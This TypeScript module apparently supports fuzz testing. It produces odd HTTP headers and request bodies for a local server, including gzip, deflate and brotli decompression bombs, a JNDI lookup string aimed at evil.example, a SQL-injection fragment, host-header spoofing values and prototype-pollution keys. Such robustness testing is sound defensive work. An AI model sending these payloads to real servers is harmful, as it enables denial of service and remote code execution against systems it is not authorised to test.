/** Headers that no browser sends, and the body of a request with such a header. */
import { brotliCompressSync, deflateSync, gzipSync } from "node:zlib";
import type { SeededChoices } from "#platform/seeded-random.ts";

interface OddHeaders {
  headers: Record<string, string>;
  /** Replaces the body. */
  payload?: string | Buffer;
}

const zeros = Buffer.alloc(32 * 1024 * 1024, "0");
/** 32 MiB in some kilobytes: a server that unpacks it pays. */
export const bombs: Readonly<Record<string, Buffer>> = {
  gzip: gzipSync(zeros),
  deflate: deflateSync(zeros),
  br: brotliCompressSync(zeros),
};

const contentTypes = [
  "",
  "application/json; charset=utf-16",
  'application/json;charset="',
  "APPLICATION/JSON",
  "application/json, text/plain",
  "text/plain",
  "text/html",
  "application/x-www-form-urlencoded",
  "multipart/form-data",
  "multipart/form-data; boundary=x",
  "application/problem+json",
  "application/graphql",
  "*/*",
  "application/__proto__",
  "constructor",
  ";",
  "a".repeat(8_000),
  "application/json\u00ff",
];
/** Odd values for each header, one at a time. */
export const oddValues: Readonly<Record<string, readonly string[]>> = {
  "content-type": contentTypes,
  "content-length": ["0", "1", "-1", "999999999", "1e3", "abc", "0x10", "18446744073709551616"],
  "content-encoding": ["gzip", "deflate", "br", "zstd", "identity", "gzip, gzip", "__proto__"],
  "transfer-encoding": ["chunked", "gzip, chunked", "identity"],
  host: [
    "",
    "localhost",
    "LOCALHOST:3000",
    "localhost:3000.",
    "acme.localhost:3000",
    "[::1]:3000",
    "evil.example",
    "localhost:3000@evil.example",
    "a".repeat(3_000),
    "localhost:99999",
    "\u00ff",
  ],
  origin: [
    "",
    "null",
    "http://acme.localhost:3000",
    "https://localhost:3000",
    "http://localhost:3000.evil.example",
    "http://localhost",
    "http://localhost:3000/",
    "\u00e9",
    "x".repeat(5_000),
  ],
  referer: ["javascript:alert(1)", "http://evil.example/", "\u00ff"],
  cookie: [
    "",
    ";",
    "=",
    "token",
    "token=",
    "token=%",
    "token=%00",
    "token=%E0%A4%A",
    "__proto__=x",
    "token=a; token=b",
    "a=b;".repeat(3_000),
    "token=" + "x".repeat(9_000),
    "\u00ff=\u00fe",
    'token="x',
  ],
  authorization: [
    "",
    "Bearer",
    "Bearer ",
    "Bearer  x",
    "bearer __proto__",
    "Basic YTpi",
    "Bearer " + "x".repeat(9_000),
    "Bearer \u00ff\u00fe",
    "Bearer a b c",
    "Digest x",
  ],
  "idempotency-key": [
    "",
    " ",
    "x",
    "\u00ff",
    "x".repeat(256),
    "x".repeat(9_000),
    "__proto__",
    "a b",
    "' or 1=1",
    "00000000-0000-0000-0000-000000000000",
  ],
  "x-forwarded-for": ["", "127.0.0.1", "::1", "not an address", ",,,", "1.2.3.4, 5.6.7.8", "x".repeat(5_000), "\u00ff"],
  "x-forwarded-host": ["evil.example"],
  "x-forwarded-proto": ["javascript"],
  "x-http-method-override": ["DELETE"],
  "x-request-id": ["x".repeat(5_000), "</script>"],
  accept: ["", "text/event-stream", "*/*;q=2", "x".repeat(5_000)],
  "accept-language": ["\u00ff", "x".repeat(5_000), "de,,;q=__proto__"],
  "accept-encoding": ["gzip;q=0, *;q=0", "br, zstd", "__proto__"],
  "if-none-match": ["*", '"', 'W/"x"'],
  range: ["bytes=0-", "bytes=-1", "bytes=9-1", "x".repeat(2_000)],
  "sec-fetch-site": ["cross-site", "same-site", "none", "__proto__"],
  "user-agent": ["", "\u00ff", "${jndi:ldap://evil.example/a}", "x".repeat(9_000)],
  expect: ["x"],
  upgrade: ["websocket", "h2c"],
};

/** One to three odd headers; an encoding comes with a body that is really packed that way, whatever its size. */
export function oddHeaders(random: SeededChoices): OddHeaders {
  if (random.percent(12)) {
    const encoding = random.pick(Object.keys(bombs));
    return { headers: { "content-type": "application/json", "content-encoding": encoding }, payload: bombs[encoding]! };
  }
  const names = Object.keys(oddValues);
  const headers = Object.fromEntries(
    Array.from({ length: 1 + random.below(3) }, () => random.pick(names)).map((name) => [name, random.pick(oddValues[name]!)]),
  );
  return headers["content-type"] !== undefined && random.percent(50)
    ? {
        headers,
        payload: random.pick([
          "",
          "a=b&a=c&__proto__=d",
          "{",
          "--x\r\n\r\n--x--",
          "\u0000",
          "[".repeat(50_000),
          '{"a":'.repeat(20_000),
          '"\\ud800"',
          "01",
        ]),
      }
    : { headers };
}
